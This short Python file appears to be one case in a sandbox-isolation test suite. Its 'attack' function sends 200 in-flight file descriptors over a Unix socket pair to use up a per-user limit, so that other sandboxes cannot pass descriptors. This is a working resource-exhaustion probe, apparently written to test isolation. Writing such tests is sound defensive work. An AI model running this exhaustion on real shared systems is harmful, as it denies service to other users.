import os
import socket

from common import gained


def attack(facts):
    """Descriptors on their way count against all processes of a user: more of them, and no other box can send one."""
    ours, theirs = socket.socketpair()
    return gained(
        send=lambda: socket.send_fds(ours, [b"x"], [os.open("/dev/null", os.O_RDONLY)] * 200),
        receive=lambda: socket.recv_fds(theirs, 1, 200, socket.MSG_DONTWAIT),
    )
